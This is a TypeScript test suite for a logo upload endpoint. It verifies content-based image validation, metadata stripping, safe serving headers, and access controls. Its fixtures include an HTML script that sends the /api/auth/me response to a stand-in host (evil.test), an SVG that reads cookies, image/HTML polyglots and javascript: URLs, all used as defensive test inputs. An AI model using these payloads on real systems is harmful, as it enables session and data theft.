import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkLogo, LOGO_MAX_PIXELS, NotALogo } from '../src/settings/logo-image.js';
import { DEMO_LOGINS, addTeamMember, bearer, createBusiness, signIn, startTestApp, unique, type CookieSession, type TestApp } from './harness.js';
import { GIF_1X1, JPEG_16, WEBP_16, pngImage } from './support/images.js';

/**
 * Issue 7 item 6: an owner's logo is uploaded, checked by content, stored by us and served from our
 * own origin; no page loads an image from a server the owner chose (CSP img-src 'self').
 */
let t: TestApp;
let op: CookieSession;
let owner: CookieSession;
let staff: CookieSession;
let biz: { id: string; slug: string; name: string };
const logoPath = () => `/api/businesses/${biz.id}/settings/branding/logo`;
const brandingPath = () => `/api/businesses/${biz.id}/settings/branding`;

beforeAll(async () => {
  t = await startTestApp();
  op = await signIn(t, DEMO_LOGINS.operator);
  const slug = unique('logo');
  const ownerLogin = { email: `owner@${slug}.example.test`, password: 'owner-password' };
  const staffLogin = { email: `staff@${slug}.example.test`, password: 'staff-password' };
  biz = await createBusiness(t, op, { name: `Logo ${slug}`, slug, timeZone: 'Europe/London', owner: { name: 'Logo Owner', ...ownerLogin } });
  owner = await signIn(t, ownerLogin);
  await addTeamMember(t, owner, biz.id, { name: 'Logo Staff', role: 'staff', ...staffLogin });
  staff = await signIn(t, staffLogin);
});
afterAll(() => t?.close());

/** A raw image PUT as the admin sends it (session cookie and CSRF header, the file as the body). */
const upload = (s: CookieSession, body: Buffer, type = 'image/png', path = logoPath()) =>
  t
    .http()
    .put(path)
    .set(
      'cookie',
      Object.entries(s.cookies)
        .map(([k, v]) => `${k}=${v}`)
        .join('; '),
    )
    .set('x-xsrf-token', s.xsrf())
    .set('content-type', type)
    .send(body);
const stored = async () => (await t.db.query(`SELECT content, content_type, sha256 FROM business_logos WHERE business_id = $1`, [biz.id]))[0] ?? null;
const logoUrlInDb = async () => (await t.db.query(`SELECT logo_url FROM businesses WHERE id = $1`, [biz.id]))[0].logo_url as string | null;
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

const HTML = Buffer.from(
  '<!doctype html><html><body><script>fetch("/api/auth/me").then(r=>r.text()).then(t=>location="https://evil.test/?"+t)</script></body></html>',
);
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
);

describe('what counts as a logo (by content, never by name or type)', () => {
  it('accepts real PNG, JPEG, GIF and WebP images, and reads their size', () => {
    expect(checkLogo(pngImage(40, 20))).toMatchObject({ type: 'image/png', width: 40, height: 20 });
    expect(checkLogo(JPEG_16)).toMatchObject({ type: 'image/jpeg', width: 16, height: 16 });
    expect(checkLogo(GIF_1X1)).toMatchObject({ type: 'image/gif', width: 1, height: 1 });
    expect(checkLogo(WEBP_16)).toMatchObject({ type: 'image/webp', width: 16, height: 16 });
  });

  it.each([
    ['HTML', HTML],
    ['SVG (a document that runs script)', SVG],
    ['SVG behind an XML declaration', Buffer.from(`<?xml version="1.0"?>${SVG.toString()}`)],
    ['a PNG with HTML appended after its end (polyglot)', Buffer.concat([pngImage(8, 8), HTML])],
    ['a GIF with a script appended after its trailer', Buffer.concat([GIF_1X1, Buffer.from('/*<script>alert(1)</script>*/')])],
    ['a JPEG with HTML appended after its end', Buffer.concat([JPEG_16, HTML])],
    ['a truncated PNG', pngImage(8, 8).subarray(0, 60)],
    [
      'a PNG with a damaged chunk',
      (() => {
        const b = Buffer.from(pngImage(8, 8));
        b[40] = b[40]! ^ 0xff;
        return b;
      })(),
    ],
    ['a PNG signature in front of HTML', Buffer.concat([pngImage(8, 8).subarray(0, 8), HTML])],
    ['a WebP whose RIFF size does not cover the file', Buffer.concat([WEBP_16, Buffer.from('<html>')])],
    ['an image too large in pixels', pngImage(LOGO_MAX_PIXELS + 1, 1)],
  ])('refuses %s', (_label, bytes) => {
    expect(() => checkLogo(bytes)).toThrow(NotALogo);
  });

  it('keeps the picture and drops what can carry markup or a location (PNG text chunks, JPEG comments)', () => {
    const withText = pngImage(8, 8, [0, 0, 0], [{ type: 'tEXt', data: Buffer.from('Comment\0<html><script>alert(1)</script></html>') }]);
    const png = checkLogo(withText);
    expect(png.bytes.includes(Buffer.from('<script>'))).toBe(false);
    expect(png.bytes).toEqual(pngImage(8, 8, [0, 0, 0]));
    // A COM segment right after SOI.
    const comment = Buffer.from('<html><script>alert(1)</script></html>');
    const com = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from([0, comment.length + 2]), comment]);
    const jpeg = checkLogo(Buffer.concat([JPEG_16.subarray(0, 2), com, JPEG_16.subarray(2)]));
    expect(jpeg.bytes.includes(Buffer.from('<script>'))).toBe(false);
    expect(jpeg.bytes).toEqual(checkLogo(JPEG_16).bytes);
  });
});

describe('uploading and serving', () => {
  it('the owner uploads a PNG; it is served from our origin, by hash, as an image that no browser reads as anything else', async () => {
    const image = pngImage(64, 32);
    const res = await upload(owner, image).expect(200);
    expect(res.body).toEqual({ primaryColor: null, logoUrl: `/api/public/logos/${biz.id}/${sha(image)}` });
    expect(await logoUrlInDb()).toBe(res.body.logoUrl);
    // Everything that shows the branding names the served URL.
    expect((await staff.get(brandingPath()).expect(200)).body.logoUrl).toBe(res.body.logoUrl);
    expect((await staff.get('/api/auth/me').expect(200)).body.memberships[0].business.logoUrl).toBe(res.body.logoUrl);
    expect((await t.http().get(`/api/public/businesses/${biz.slug}`).expect(200)).body.logoUrl).toBe(res.body.logoUrl);
    // Served to anyone (the booking page has no sign-in), as exactly those bytes.
    const served = await t
      .http()
      .get(res.body.logoUrl)
      .buffer(true)
      .parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => cb(null, Buffer.concat(chunks)));
      });
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(served.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(served.headers.etag).toBe(`"${sha(image)}"`);
    expect(Buffer.compare(served.body as Buffer, image)).toBe(0);
    expect((await t.http().get(res.body.logoUrl).set('if-none-match', served.headers.etag!)).status).toBe(304);
    // One audit row, under the owner, with what was stored.
    const [row] = await t.db.query(
      `SELECT actor_id, changes, details FROM audit_events WHERE action = 'settings.branding.logo.upload' AND business_id = $1 ORDER BY id DESC LIMIT 1`,
      [biz.id],
    );
    expect(row).toMatchObject({
      actor_id: owner.userId,
      changes: { logoUrl: { before: null, after: res.body.logoUrl } },
      details: { type: 'image/png', width: 64, height: 32, sha256: sha(image) },
    });
  });

  it('a replaced logo is gone from its old URL; JPEG, GIF and WebP are served with their own type', async () => {
    const first = (await upload(owner, pngImage(10, 10, [1, 2, 3])).expect(200)).body.logoUrl;
    for (const [bytes, type] of [
      [JPEG_16, 'image/jpeg'],
      [GIF_1X1, 'image/gif'],
      [WEBP_16, 'image/webp'],
    ] as const) {
      // The declared type is ignored: the bytes decide.
      const url = (await upload(owner, bytes, 'application/octet-stream').expect(200)).body.logoUrl;
      const res = await t.http().get(url).expect(200);
      expect(res.headers['content-type']).toBe(type);
    }
    expect((await t.http().get(first)).status).toBe(404);
    expect((await t.http().get(`/api/public/logos/${biz.id}/${'0'.repeat(64)}`)).status).toBe(404);
    expect((await t.http().get(`/api/public/logos/not-a-uuid/x`)).status).toBe(404);
  });

  it('the owner removes the logo (DELETE, or null in the branding); the served URL is then 404', async () => {
    const url = (await upload(owner, pngImage(12, 12)).expect(200)).body.logoUrl;
    expect((await owner.delete(logoPath()).expect(200)).body).toEqual({ primaryColor: null, logoUrl: null });
    expect(await stored()).toBeNull();
    expect((await t.http().get(url)).status).toBe(404);
    const again = (await upload(owner, pngImage(13, 13)).expect(200)).body.logoUrl;
    // Keeping it: logoUrl sent as it is, or left out.
    expect((await owner.put(brandingPath(), { primaryColor: '#112233', logoUrl: again }).expect(200)).body.logoUrl).toBe(again);
    expect((await owner.put(brandingPath(), { primaryColor: '#112233' }).expect(200)).body.logoUrl).toBe(again);
    // Removing it: null.
    expect((await owner.put(brandingPath(), { primaryColor: '#112233', logoUrl: null }).expect(200)).body.logoUrl).toBeNull();
    expect(await stored()).toBeNull();
    expect((await t.http().get(again)).status).toBe(404);
  });
});

describe('the attacks', () => {
  it.each([
    ['an HTML page named logo.png', HTML, 'image/png'],
    ['an SVG', SVG, 'image/svg+xml'],
    ['an SVG sent as a PNG', SVG, 'image/png'],
    ['a PNG/HTML polyglot', Buffer.concat([pngImage(8, 8), HTML]), 'image/png'],
    ['a truncated image', pngImage(8, 8).subarray(0, 50), 'image/png'],
    ['an empty body', Buffer.alloc(0), 'image/png'],
  ])('%s is refused with 415 logo_unsupported and the current logo stays', async (_label, body, type) => {
    const current = (await upload(owner, pngImage(9, 9)).expect(200)).body.logoUrl;
    const before = await stored();
    const res = await upload(owner, body, type);
    expect(res.status).toBe(415);
    expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
    expect(res.body.code).toBe('logo_unsupported');
    expect(await stored()).toEqual(before);
    expect(await logoUrlInDb()).toBe(current);
  });

  it('an upload over 512 kB is refused with 413 logo_too_large and stores nothing', async () => {
    await owner.delete(logoPath()).expect(200);
    const big = Buffer.concat([pngImage(8, 8), Buffer.alloc(600 * 1024, 0x41)]);
    const res = await upload(owner, big);
    expect(res.status).toBe(413);
    expect(res.body.code).toBe('logo_too_large');
    expect(await stored()).toBeNull();
    expect(await logoUrlInDb()).toBeNull();
    const [{ n }] = await t.db.query(
      `SELECT count(*)::int AS n FROM audit_events WHERE action = 'settings.branding.logo.upload' AND business_id = $1 AND outcome = 'success' AND details->>'uploadedBytes' = $2`,
      [biz.id, String(big.length)],
    );
    expect(n).toBe(0);
  });

  it.each([
    ['an https URL on another server', 'https://tracker.example.test/logo.png?who=operator'],
    ['an http URL', 'http://cdn.example.test/logo.png'],
    ['a protocol-relative URL', '//cdn.example.test/logo.png'],
    ['a data: URL', 'data:image/png;base64,AAAA'],
    ['a javascript: URL', 'javascript:alert(1)'],
    ["another business's logo URL", `/api/public/logos/00000000-0000-4000-8000-000000000000/${'a'.repeat(64)}`],
  ])('PUT branding with %s is 400 logo_url_external and changes nothing', async (_label, logoUrl) => {
    const current = (await upload(owner, pngImage(11, 11)).expect(200)).body.logoUrl;
    const res = await owner.put(brandingPath(), { primaryColor: '#445566', logoUrl }).expect(400);
    expect(res.body.code).toBe('logo_url_external');
    expect(await logoUrlInDb()).toBe(current);
    expect((await owner.get(brandingPath()).expect(200)).body.primaryColor).not.toBe('#445566');
  });

  it('the database itself refuses an external logo URL (even written around the API)', async () => {
    await expect(t.db.query(`UPDATE businesses SET logo_url = 'https://tracker.example.test/x.png' WHERE id = $1`, [biz.id])).rejects.toThrow(
      /businesses_logo_url_own|check/i,
    );
  });

  it("another business's owner cannot overwrite or delete the logo; staff and the platform outside impersonation cannot either", async () => {
    const current = (await upload(owner, pngImage(14, 14)).expect(200)).body.logoUrl;
    const before = await stored();
    const other = await signIn(t, DEMO_LOGINS.brightOwner);
    expect((await upload(other, pngImage(4, 4))).body.code).toBe('forbidden');
    expect((await other.delete(logoPath())).body.code).toBe('forbidden');
    expect((await upload(staff, pngImage(4, 4))).body.code).toBe('owner_required');
    expect((await staff.delete(logoPath())).body.code).toBe('owner_required');
    expect((await upload(op, pngImage(4, 4))).body.code).toBe('impersonation_required');
    const api = await bearer(t, DEMO_LOGINS.brightOwner);
    const viaToken = await t.http().put(logoPath()).set('authorization', `Bearer ${api.token}`).set('content-type', 'image/png').send(pngImage(4, 4));
    expect(viaToken.status).toBe(403);
    expect(viaToken.body.code).toBe('forbidden');
    // Without the CSRF header a cookie upload is refused too.
    const noCsrf = await t
      .http()
      .put(logoPath())
      .set('cookie', `sid=${owner.cookies.sid}; XSRF-TOKEN=${owner.xsrf()}`)
      .set('content-type', 'image/png')
      .send(pngImage(4, 4));
    expect(noCsrf.body.code).toBe('csrf_invalid');
    expect(await stored()).toEqual(before);
    expect(await logoUrlInDb()).toBe(current);
  });

  it('a read-only impersonation cannot upload or delete (403, recorded under the operator); owner impersonation can', async () => {
    const current = (await upload(owner, pngImage(15, 15)).expect(200)).body.logoUrl;
    const imp = (await op.post('/api/impersonation', { businessId: biz.id, role: 'owner', readOnly: true }).expect(201)).body.impersonation;
    try {
      expect((await upload(op, pngImage(5, 5))).body.code).toBe('read_only_impersonation');
      expect((await op.delete(logoPath())).body.code).toBe('read_only_impersonation');
      expect(await logoUrlInDb()).toBe(current);
      const denied = await t.db.query(`SELECT action, actor_id, outcome FROM audit_events WHERE impersonation_id = $1 AND outcome = 'denied' ORDER BY id`, [
        imp.id,
      ]);
      expect(denied.map((r: { action: string }) => r.action)).toEqual(['settings.branding.logo.upload', 'settings.branding.logo.remove']);
      expect(denied.every((r: { actor_id: string }) => r.actor_id === op.userId)).toBe(true);
      const writer = (await op.post('/api/impersonation', { businessId: biz.id, role: 'owner' }).expect(201)).body.impersonation;
      const url = (await upload(op, pngImage(6, 6)).expect(200)).body.logoUrl;
      const [row] = await t.db.query(`SELECT created_by, created_in_impersonation FROM business_logos WHERE business_id = $1`, [biz.id]);
      expect(row).toEqual({ created_by: op.userId, created_in_impersonation: writer.id });
      expect(url).not.toBe(current);
    } finally {
      await op.delete('/api/impersonation').expect(200);
    }
  });

  it('the CSP lets pages load images from our own origin only', async () => {
    for (const path of ['/api/health', '/api/auth/me', `/api/public/businesses/${biz.slug}`]) {
      const csp = String((await t.http().get(path)).headers['content-security-policy']);
      const img = csp
        .split(';')
        .map((d) => d.trim())
        .find((d) => d.startsWith('img-src'));
      expect(img, path).toBe("img-src 'self'");
    }
  });
});
